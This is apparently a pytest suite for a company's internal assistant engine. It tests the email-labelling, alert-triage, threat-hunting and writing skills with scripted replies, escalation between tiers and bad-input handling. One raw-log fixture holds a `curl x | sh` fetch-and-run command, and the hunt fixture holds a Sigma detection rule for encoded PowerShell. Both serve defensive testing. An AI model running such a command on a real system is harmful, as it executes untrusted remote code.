"""The six built-in skills end to end through the engine, with scripted model replies per tier.

Structured skills (label-email, triage-alert, hunt): a valid reply, an invalid reply escalated once to
the next tier, and two invalid replies. Open skills (ask, write-report, summarize): the context that was
actually put in the system prompt. Then bad input: empty, binary, huge, and alerts as JSON or raw logs.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from sqlmodel import select

from bot.core.types import Request
from bot.ledger.models import RequestRow
from bot.pipeline.engine import Engine
from bot.pipeline.stages import render_structured

# Helpers ---------------------------------------------------------------------------------------


def rows(engine: Engine) -> list[RequestRow]:
    with engine.ledger.session() as s:
        return list(s.exec(select(RequestRow)))


def system_prompt(script: Any, index: int = -1) -> str:
    messages = script.calls[index][1]
    assert messages[0]["role"] == "system"
    return messages[0]["content"]


def user_message(script: Any, index: int = -1) -> str:
    messages = script.calls[index][1]
    assert messages[-1]["role"] == "user"
    return messages[-1]["content"]


def always_doc_piece(engine: Engine, pack: str) -> str:
    """The header and opening of the pack's always-included document, as the prompt renders it."""
    doc = engine.packs[pack].always_documents()[0]
    return f"[{doc.path} — {doc.title}]\n{doc.text[:400]}"


# These prompt tests look at whole always-included documents and the system-message layout, which
# the embedded tier (the default) now trims and rearranges for its 135M model (issue 14): they run on
# a larger local model's tier (the scripted replies do not depend on the model).
ROOMY = {"tiers": {"small": {"model": "openai/gpt-4o-mini", "data_boundary": "local"}}}


# Scripted replies ------------------------------------------------------------------------------

LABEL = {
    "category": "billing",
    "priority": "high",
    "team": "finance-billing",
    "reason": "Customer disputes invoice INV-2291.",
}
TRIAGE = {
    "severity": "low",
    "techniques": ["T1566.002"],
    "false_positive_likelihood": "low",
    "false_positive_reason": "Lookalike sender domain.",
    "runbook": "RB-PHISH",
    "next_steps": [
        "Pull the message from every mailbox with the Gmail investigation tool",
        "Block the sender domain in Google Workspace and Zscaler",
    ],
    "summary": "A phishing email was reported; nobody clicked.",
    "asset_tier": 1,
    "evidence": "blocked",
    "hard_rule": 6,  # phishing delivered, not clicked = low
    "blast_radius_bump": False,
}
HUNT_RULE = r"""title: PowerShell Encoded Command Launched By Office Application
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        ParentImage|endswith: '\winword.exe'
        CommandLine|contains: ' -enc'
    condition: selection
level: high
"""
HUNT = {
    "title": "Encoded PowerShell from Office",
    "hypothesis": "Phishing documents launch encoded PowerShell.",
    "sigma_rule": HUNT_RULE,
    "steps": ["Convert the rule", "Run it over 30 days"],
}

EMAIL = (
    "From: accounts@northwind-freight.example\nSubject: Invoice INV-2291 is wrong\n\n"
    "Hi, we were charged twice for November. Please refund the duplicate charge."
)
ALERT = {
    "source": "Google Workspace Alert Center",
    "alert": "User reported phishing",
    "recipient": "ana.silva@larkspur.example",
    "sender": "billing@larkspur-systems.example.org",
    "subject": "Invoice overdue",
    "clicked": False,
}

# skill, input, a valid reply, an invalid reply, the reason the invalid reply is rejected
STRUCTURED = [
    pytest.param(
        "label-email",
        EMAIL,
        LABEL,
        json.dumps({**LABEL, "category": "invoices"}),
        "category: Input should be 'billing', 'technical-support', 'sales-inquiry', 'security-report', "
        "'phishing', 'hr-people', 'legal-compliance', 'partnership', 'recruiting', 'vendor-invoice', "
        "'it-request', 'spam' or 'other' (1 problem(s))",
        id="label-email",
    ),
    pytest.param(
        "triage-alert",
        json.dumps(ALERT),
        TRIAGE,
        json.dumps({**TRIAGE, "techniques": ["Phishing", "T1566.002"]}),
        # issue 10: the id pattern is a schema constraint now (it reaches the model through the schema)
        "techniques.0: String should match pattern '^[Tt]\\d{4}(\\.\\d{3})?$' (1 problem(s))",
        id="triage-alert",
    ),
    pytest.param(
        "hunt",
        "hunt for encoded powershell launched by office apps",
        HUNT,
        json.dumps({**HUNT, "sigma_rule": HUNT_RULE.replace("condition: selection", "condition: selektion")}),
        "Sigma rule does not parse: SigmaConditionError: Detection 'selektion' not defined in detections",
        id="hunt",
    ),
]


# Structured skills ---------------------------------------------------------------------------


@pytest.mark.parametrize(("skill", "text", "valid", "invalid", "reason"), STRUCTURED)
def test_structured_skill_valid_reply(
    make_engine: Any, script: Any, skill: str, text: str, valid: dict, invalid: str, reason: str
) -> None:
    script.on("small", json.dumps(valid))
    engine = make_engine()

    reply = engine.handle(Request(text=text, skill=skill))

    assert reply.status == "ok"
    assert reply.skill == skill
    assert reply.tier == "small"
    assert reply.escalated is False
    assert reply.structured == valid
    assert reply.text == render_structured(valid)
    assert not reply.text.lstrip().startswith("{")  # fields text, not raw JSON
    assert [tier for tier, _ in script.calls] == ["small"]
    [row] = rows(engine)
    assert (row.skill, row.tier, row.status, row.error, row.escalated_from) == (
        skill,
        "small",
        "ok",
        None,
        None,
    )
    assert row.id == reply.request_id
    assert row.response == json.dumps(valid)
    assert row.purpose == "user"


@pytest.mark.parametrize(("skill", "text", "valid", "invalid", "reason"), STRUCTURED)
def test_structured_skill_invalid_then_valid_escalates_once(
    make_engine: Any, script: Any, skill: str, text: str, valid: dict, invalid: str, reason: str
) -> None:
    script.on("small", invalid)
    script.on("medium", json.dumps(valid))
    engine = make_engine()

    reply = engine.handle(Request(text=text, skill=skill))

    assert reply.status == "ok"
    assert reply.escalated is True
    assert reply.tier == "medium"
    assert reply.structured == valid
    assert reply.text == render_structured(valid)
    assert "escalated from small to medium after an invalid answer" in reply.notes
    assert [tier for tier, _ in script.calls] == ["small", "medium"]
    assert user_message(script, 0) == user_message(script, 1)  # the same request, on a stronger tier
    ledger = rows(engine)
    assert len(ledger) == 2
    first = next(r for r in ledger if r.tier == "small")
    second = next(r for r in ledger if r.tier == "medium")
    assert (first.status, first.error, first.escalated_from) == ("invalid", f"invalid output: {reason}", None)
    assert (second.status, second.error, second.escalated_from) == ("ok", None, first.id)
    assert reply.request_id == second.id
    assert first.response == invalid


@pytest.mark.parametrize(("skill", "text", "valid", "invalid", "reason"), STRUCTURED)
def test_structured_skill_invalid_twice_gives_a_clear_message(
    make_engine: Any, script: Any, skill: str, text: str, valid: dict, invalid: str, reason: str
) -> None:
    script.on("small", invalid)
    script.on("medium", "Sure! Here is the answer you asked for.")
    engine = make_engine()

    reply = engine.handle(Request(text=text, skill=skill))

    assert reply.status == "invalid"
    assert reply.ok is False
    assert reply.structured is None
    assert reply.escalated is True
    assert reply.text == (
        f"Sorry: I could not produce a valid {skill} answer (tried small and medium). "
        f"An admin can see the details under request {reply.request_id}."
    )
    for raw in ("{", "Input should be", "JSON", "Sigma", "ATT&CK", reason):
        assert raw not in reply.text
    assert [tier for tier, _ in script.calls] == ["small", "medium"]  # one escalation only, never large
    ledger = rows(engine)
    first = next(r for r in ledger if r.tier == "small")
    second = next(r for r in ledger if r.tier == "medium")
    assert len(ledger) == 2
    assert (first.status, first.error) == ("invalid", f"invalid output: {reason}")
    assert second.status == "invalid"
    assert second.escalated_from == first.id
    assert second.error == ("invalid output after escalation from small: the reply contains no JSON object")


def test_invalid_reply_on_the_strongest_tier_is_recorded_without_escalation(
    make_engine: Any, script: Any
) -> None:
    script.on("large", "category: billing")
    engine = make_engine()
    reply = engine.handle(Request(text=EMAIL, skill="label-email", tier="large"))
    assert reply.status == "invalid"
    assert reply.escalated is False
    assert reply.text == (
        "Sorry: I could not produce a valid label-email answer (tried large, and there is no stronger tier "
        f"to try). An admin can see the details under request {reply.request_id}."
    )
    [row] = rows(engine)
    assert row.status == "invalid"
    assert row.error == ("invalid output: the reply contains no JSON object; no stronger tier to escalate to")


def test_label_email_prompt_has_taxonomy_and_output_contract(make_engine: Any, script: Any) -> None:
    script.on("small", "Here you go:\n```json\n" + json.dumps(LABEL) + "\n```")  # fences are tolerated
    engine = make_engine(**ROOMY)
    reply = engine.handle(Request(text=EMAIL, skill="label-email"))

    assert reply.status == "ok"
    assert reply.text == (
        "Category: billing\nPriority: high\nTeam: finance-billing\nReason: Customer disputes invoice INV-2291."
    )
    system = system_prompt(script)
    assert system.startswith("You label incoming email for Larkspur Systems.")
    assert always_doc_piece(engine, "email-taxonomy") in system
    assert "Reply with exactly one JSON object and nothing else" in system
    assert '"security-ops"' in system and '"urgent"' in system  # the schema's allowed values
    assert user_message(script) == EMAIL
    assert EMAIL not in system  # the user's text never lands in the system message
    assert "taxonomy.md" in reply.sources  # issue 14: the best section now comes first
    assert reply.pack_hash == f"email-taxonomy@{engine.packs['email-taxonomy'].hash}"


def test_triage_prompt_has_severity_matrix_and_matching_runbook(make_engine: Any, script: Any) -> None:
    script.on("small", json.dumps(TRIAGE))
    engine = make_engine(**ROOMY)
    reply = engine.handle(Request(text=json.dumps(ALERT), skill="triage-alert"))

    assert reply.status == "ok"
    assert reply.text == (
        "Severity: low\n"
        "Techniques: T1566.002\n"
        "False positive likelihood: low\n"
        "False positive reason: Lookalike sender domain.\n"
        "Runbook: RB-PHISH\n"
        "Next steps:\n"
        "  1. Pull the message from every mailbox with the Gmail investigation tool\n"
        "  2. Block the sender domain in Google Workspace and Zscaler\n"
        "Summary: A phishing email was reported; nobody clicked.\n"
        "Asset tier: 1\n"  # the severity matrix criteria the answer cites (issue 10)
        "Evidence: blocked\n"
        "Hard rule: 6\n"
        "Blast radius bump: False"
    )
    system = system_prompt(script)
    assert always_doc_piece(engine, "security-runbooks") in system
    assert "| Tier 0 crown jewel |" in system  # the matrix itself
    assert "[runbooks/RB-PHISH.md — " in system
    assert "severity-matrix.md" in reply.sources  # issue 14: the best section now comes first
    assert "runbooks/RB-PHISH.md" in reply.sources


def test_hunt_prompt_has_sigma_conventions_and_rule_is_rendered_as_text(
    make_engine: Any, script: Any
) -> None:
    script.on("small", json.dumps(HUNT))
    engine = make_engine(**ROOMY)
    reply = engine.handle(Request(text="hunt for encoded powershell launched by office apps", skill="hunt"))

    assert reply.status == "ok"
    assert f"Sigma rule:\n{HUNT_RULE}" in reply.text
    assert reply.text.startswith("Title: Encoded PowerShell from Office\nHypothesis: ")
    system = system_prompt(script)
    assert always_doc_piece(engine, "threat-hunting") in system
    assert "sigma-conventions.md" in reply.sources  # issue 14: the best section now comes first
    assert "playbooks/lolbins-encoded-powershell.md" in reply.sources


def test_triage_runbook_that_is_not_an_id_is_invalid(make_engine: Any, script: Any) -> None:
    script.on("small", json.dumps({**TRIAGE, "runbook": "the phishing runbook"}))
    script.on("medium", json.dumps(TRIAGE))
    engine = make_engine()
    reply = engine.handle(Request(text=json.dumps(ALERT), skill="triage-alert"))
    assert reply.status == "ok" and reply.escalated is True
    first = next(r for r in rows(engine) if r.tier == "small")
    assert first.error == "invalid output: runbook 'the phishing runbook' is not a runbook id like RB-PHISH"


# Open skills ---------------------------------------------------------------------------------


def test_ask_vpn_uses_the_handbook_vpn_chunk_and_cites_it(make_engine: Any, script: Any) -> None:
    answer = "Request Zscaler Private Access (ZPA-Standard) in Okta.\nSources: [it/vpn-access.md]\n"
    script.on("small", answer)
    engine = make_engine(**ROOMY)

    reply = engine.handle(Request(text="How do I get VPN access?", skill="ask"))

    assert reply.status == "ok"
    assert reply.text == answer.strip()
    assert reply.structured is None
    assert reply.escalated is False
    system = system_prompt(script)
    assert "[it/vpn-access.md — VPN and private access (Zscaler ZPA)" in system
    assert "click **Request app**" in system
    assert always_doc_piece(engine, "company-handbook") in system
    assert "End with a line 'Sources:'" in system  # cite_sources
    assert user_message(script) == "How do I get VPN access?"
    assert [m["role"] for m in script.calls[0][1]] == ["system", "user"]
    assert "about-larkspur.md" in reply.sources  # issue 14: the best section now comes first
    assert "it/vpn-access.md" in reply.sources
    [row] = rows(engine)
    assert (row.skill, row.tier, row.status) == ("ask", "small", "ok")
    assert row.pack_hash == f"company-handbook@{engine.packs['company-handbook'].hash}"


def test_ask_routes_without_an_explicit_skill(make_engine: Any, script: Any) -> None:
    script.on("small", "Use ZPA.")
    reply = make_engine().handle(Request(text="How do I get VPN access?"))
    assert reply.status == "ok"
    assert reply.skill == "ask"


def test_open_skill_reply_is_never_validated_or_escalated(make_engine: Any, script: Any) -> None:
    script.on("small", '{"not": "a schema"} and some prose')
    engine = make_engine()
    reply = engine.handle(Request(text="What is the hotel cap in Toronto?", skill="ask"))
    assert reply.status == "ok"
    assert reply.text == '{"not": "a schema"} and some prose'
    assert [tier for tier, _ in script.calls] == ["small"]
    assert len(rows(engine)) == 1


NOTES = (
    "Write a weekly status report from these notes:\n"
    "- shipped route optimizer v2 to 30% of customers\n"
    "- p95 latency down 12%\n"
    "- hiring: one backend engineer started"
)


def test_write_report_uses_style_guide_and_weekly_template(make_engine: Any, script: Any) -> None:
    report = "## Weekly status\n\n**Status:** Green\n\n- Shipped route optimizer v2 to 30% of customers.\n"
    script.on("small", report)
    engine = make_engine(**ROOMY)

    reply = engine.handle(Request(text=NOTES, skill="write-report"))

    assert reply.status == "ok"
    assert reply.text == report.strip()
    system = system_prompt(script)
    assert system.startswith("You write reports for Larkspur Systems.")
    assert always_doc_piece(engine, "report-style") in system
    assert "[templates/weekly-status.md — " in system
    assert user_message(script) == NOTES
    assert "style-guide.md" in reply.sources  # issue 14: the best section now comes first
    assert "templates/weekly-status.md" in reply.sources


THREAD = (
    "alice: should we move the release to Thursday?\n"
    "bob: yes, QA needs one more day\n"
    "alice: ok, decided: Thursday. @carol will update the changelog\n"
    "carol: will do. open question: do we tell customers?"
)


def test_summarize_uses_style_guide(make_engine: Any, script: Any) -> None:
    summary = "Decisions: release moves to Thursday.\nOwners: @carol updates the changelog.\nOpen questions: tell customers?"
    script.on("small", summary)
    engine = make_engine(**ROOMY)

    reply = engine.handle(Request(text=THREAD, skill="summarize"))

    assert reply.status == "ok"
    assert reply.text == summary
    system = system_prompt(script)
    assert system.startswith("Summarize the conversation for someone who missed it.")
    assert always_doc_piece(engine, "report-style") in system
    assert user_message(script) == THREAD
    assert "style-guide.md" in reply.sources  # issue 14: the best section now comes first
    assert rows(engine)[0].skill == "summarize"


# Bad input -----------------------------------------------------------------------------------

SKILLS = ["ask", "label-email", "triage-alert", "hunt", "write-report", "summarize"]


@pytest.mark.parametrize("skill", SKILLS)
@pytest.mark.parametrize("text", ["", "   \n\t  "], ids=["empty", "blank"])
def test_empty_input_is_rejected_with_an_example(
    make_engine: Any, script: Any, skill: str, text: str
) -> None:
    engine = make_engine()
    declared = engine.registry.skills[skill]
    reply = engine.handle(Request(text=text, skill=skill))
    assert reply.status == "rejected"
    assert reply.skill == skill
    assert reply.text == f"Tell me what you need, e.g. `{declared.slash} {declared.examples[0]}`"
    assert script.calls == []
    assert rows(engine) == []


def test_empty_email_message_names_the_command(make_engine: Any) -> None:
    reply = make_engine().handle(Request(text="", skill="label-email"))
    assert reply.text == "Tell me what you need, e.g. `/label-email label this email`"
    reply = make_engine().handle(Request(text="", skill="triage-alert"))
    assert reply.text == "Tell me what you need, e.g. `/triage triage this alert`"


@pytest.mark.parametrize("skill", ["label-email", "triage-alert", "ask"])
@pytest.mark.parametrize(
    "text",
    [
        "From: a@b.example\nSubject: hi\x00\x00\x01PK\x03\x04",
        "\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f" * 20 + "text",
        "ok " * 5000 + "\x00",  # a NUL far past the first 4,000 characters still counts
    ],
    ids=["nul-bytes", "control-chars", "late-nul"],
)
def test_binary_input_is_rejected_before_any_model_call(
    make_engine: Any, script: Any, skill: str, text: str
) -> None:
    engine = make_engine()
    reply = engine.handle(Request(text=text, skill=skill))
    assert reply.status == "rejected"
    assert reply.text == "That looks like binary data; paste it as text."
    assert script.calls == []
    assert rows(engine) == []


def _huge_email() -> str:
    body = " ".join(
        f"Line {i}: please see the attached invoice for shipment {i} and confirm the amount."
        for i in range(2600)
    )
    return "From: ap@vendor.example\nSubject: Invoices\n\n" + body


def test_huge_email_is_trimmed_to_the_budget_with_a_note(make_engine: Any, script: Any) -> None:
    huge = _huge_email()
    assert len(huge) > 200_000
    script.on("small", json.dumps({**LABEL, "category": "vendor-invoice", "team": "finance-ap"}))
    engine = make_engine()
    count = engine.llm.counter("small")

    reply = engine.handle(Request(text=huge, skill="label-email"))

    assert reply.status == "ok"
    budget = engine.settings.max_input_tokens  # 4000 (under half the 8192-token window)
    assert budget == 4000
    assert reply.notes == [f"Your message was {count(huge):,} tokens; only the first 4,000 were used."]
    sent = user_message(script)
    assert huge.startswith(sent)
    assert budget - 50 < count(sent) <= budget
    [row] = rows(engine)
    assert row.input_chars == len(huge)
    assert row.status == "ok"


def test_huge_alert_is_trimmed_not_crashed(make_engine: Any, script: Any) -> None:
    log_lines = "".join(
        f"2026-11-20T10:{i % 60:02d}:00Z sshd[{i}]: Failed password for root from 203.0.113.{i % 250} port 22\n"
        for i in range(2500)
    )
    assert len(log_lines) > 200_000
    script.on("small", json.dumps(TRIAGE))
    engine = make_engine()
    reply = engine.handle(Request(text=log_lines, skill="triage-alert"))
    assert reply.status == "ok"
    assert len(reply.notes) == 1
    assert reply.notes[0].endswith("tokens; only the first 4,000 were used.")
    sent = user_message(script)
    assert sent.startswith("Raw log lines (not JSON):\n2026-11-20T10:00:00Z sshd[0]: Failed password")
    assert engine.llm.counter("small")(sent) <= 4000


def test_alert_that_is_not_json_is_sent_as_raw_log_lines(make_engine: Any, script: Any) -> None:
    raw = 'Nov 20 10:01:02 lsp-jmp01 sudo: bob : TTY=pts/0 ; COMMAND=/bin/bash -c "curl x | sh"\n{broken'
    script.on("small", json.dumps(TRIAGE))
    make_engine().handle(Request(text=raw, skill="triage-alert"))
    assert user_message(script) == f"Raw log lines (not JSON):\n{raw}"


def test_json_alert_is_reserialised(make_engine: Any, script: Any) -> None:
    compact = (
        '{"rule":"Encoded PowerShell","host":"LSP-WIN-0042","user":"josé","count":3,"tags":["edr","t1059"]}'
    )
    script.on("small", json.dumps(TRIAGE))
    make_engine().handle(Request(text=f"  {compact}  ", skill="triage-alert"))
    assert user_message(script) == (
        "Alert (JSON):\n"
        "{\n"
        ' "rule": "Encoded PowerShell",\n'
        ' "host": "LSP-WIN-0042",\n'
        ' "user": "josé",\n'
        ' "count": 3,\n'
        ' "tags": [\n'
        '  "edr",\n'
        '  "t1059"\n'
        " ]\n"
        "}"
    )


def test_json_alert_list_is_reserialised_and_scalar_is_raw(make_engine: Any, script: Any) -> None:
    engine = make_engine()
    script.on("small", json.dumps(TRIAGE), json.dumps(TRIAGE))
    engine.handle(Request(text='[{"a": 1}]', skill="triage-alert"))
    assert user_message(script) == 'Alert (JSON):\n[\n {\n  "a": 1\n }\n]'
    engine.handle(Request(text="42", skill="triage-alert"))
    assert user_message(script) == "Raw log lines (not JSON):\n42"
